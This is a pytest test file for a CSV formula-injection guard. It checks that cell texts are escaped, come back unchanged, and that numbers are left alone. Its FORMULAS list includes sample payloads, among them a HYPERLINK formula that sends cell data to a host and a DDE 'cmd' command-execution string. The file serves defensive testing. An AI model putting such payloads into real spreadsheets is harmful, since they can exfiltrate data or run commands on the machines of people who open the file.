"""CSV files without formulas: guarded texts are never run, come back as they were, and numbers stay numbers."""

import io

import numpy as np
import pandas as pd
import pytest
from pandas import DataFrame

from ipr_core import spreadsheets

FORMULAS = [
    '=HYPERLINK("http://host/"&A1,"clip")', "+49 30 1234", "-2+3", "@SUM(A1)", "\t=1", "\n=1", "＝1+1",
    "'=1", "''+x", "a;=cmd|'/C calc'!A0", "one\n@two", "x\t-y",
]  # fmt: skip
PLAIN = ["", "plain", "a-b", "it's", "'quoted'", "clips/=x.wav", "Ärger", "😀", "a, -b", "x; y"]
NUMBERS = ["-0.5", "+3", "-1e-5", "-.5", "7"]
CELLS = FORMULAS + PLAIN + NUMBERS


@pytest.mark.parametrize("text", CELLS)
def test_a_guarded_text_comes_back_as_it_was(text):
    assert spreadsheets.unguard(spreadsheets.guard(text)) == text
    assert spreadsheets.unguard(spreadsheets.unguard(spreadsheets.guard(spreadsheets.guard(text)))) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_no_part_of_a_guarded_text_begins_as_a_formula(text):
    for part in spreadsheets.guard(text).replace("\t", ";").replace("\n", ";").replace("\r", ";").split(";"):
        assert not part.startswith(("=", "+", "-", "@", "＝"))


@pytest.mark.parametrize("text", PLAIN + NUMBERS)
def test_plain_texts_and_numbers_are_written_as_they_are(text):
    assert spreadsheets.guard(text) == text


@pytest.mark.parametrize("kind", ["str", object])
def test_a_table_comes_back_from_its_csv(kind, tmp_path):
    table = DataFrame({"id": np.array(CELLS, object), "=name": -np.arange(len(CELLS)) / 3}).astype({"id": kind})
    spreadsheets.to_csv(table, tmp_path / "table.csv")
    csv = pd.read_csv(tmp_path / "table.csv", keep_default_na=False)
    assert list(csv) == ["id", "'=name"]
    assert csv["id"].tolist() == [spreadsheets.guard(text) for text in CELLS]
    back = spreadsheets.unguarded(csv)
    assert back["id"].tolist() == CELLS
    assert back["=name"].tolist() == table["=name"].tolist()


@pytest.mark.parametrize("text", ["a\r=1", "a\r\n=1", "\r=1"])
def test_a_carriage_return_ends_no_row(text):
    csv = pd.read_csv(io.StringIO(spreadsheets.csv_text(DataFrame({"id": [text], "x": [1]}))), keep_default_na=False)
    assert len(csv) == 1
    assert spreadsheets.unguarded(csv)["id"][0] == text.replace("\r\n", "\n").replace("\r", "\n")


def test_cells_that_are_no_texts_are_left_alone():
    table = DataFrame({"mixed": np.array([None, -1, "=x"], object), "numbers": np.array([1, -2, 3], object)})
    assert spreadsheets.guarded(table)["mixed"].tolist() == [None, -1, "'=x"]
    assert spreadsheets.csv_text(table) == "mixed,numbers\n,1\n-1,-2\n'=x,3\n"
    assert spreadsheets.csv_text(table[:0]) == "mixed,numbers\n"


def test_blocks_make_one_file(tmp_path):
    table = DataFrame({"id": CELLS})
    spreadsheets.to_csv(table[:5], tmp_path / "table.csv")
    spreadsheets.to_csv(table[5:], tmp_path / "table.csv", header=False, mode="a")
    text = (tmp_path / "table.csv").read_bytes().decode()
    assert text == spreadsheets.csv_text(table)
    assert len(pd.read_csv(io.StringIO(text), keep_default_na=False)) == len(CELLS)
